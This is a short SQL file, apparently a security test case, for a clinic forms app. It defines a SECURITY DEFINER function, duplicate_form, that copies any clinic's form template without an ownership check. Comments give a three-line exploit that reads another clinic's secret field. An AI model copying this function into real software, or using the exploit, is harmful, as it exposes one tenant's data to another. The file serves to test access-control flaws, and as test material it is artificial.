-- Copying a form does not ask whose it is, so any clinic's form can be copied into one's own and read.
-- about: duplicate_form, FormTemplate
-- as: hf_intakely_app
-- exploit: SET app.clinic_id = 'cln_river';
-- exploit: SELECT duplicate_form('frm_road');
-- exploit: SELECT "title", "fields" FROM "FormTemplate";
-- shows: Road-secret field
CREATE FUNCTION duplicate_form(p_template text) RETURNS text LANGUAGE sql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
  INSERT INTO "FormTemplate" ("clinicId", "title", "fields")
  SELECT current_clinic(), t."title" || ' (copy)', t."fields" FROM "FormTemplate" t WHERE t."id" = p_template
  RETURNING "id"
$$;
GRANT EXECUTE ON FUNCTION duplicate_form(text) TO hf_intakely_app;
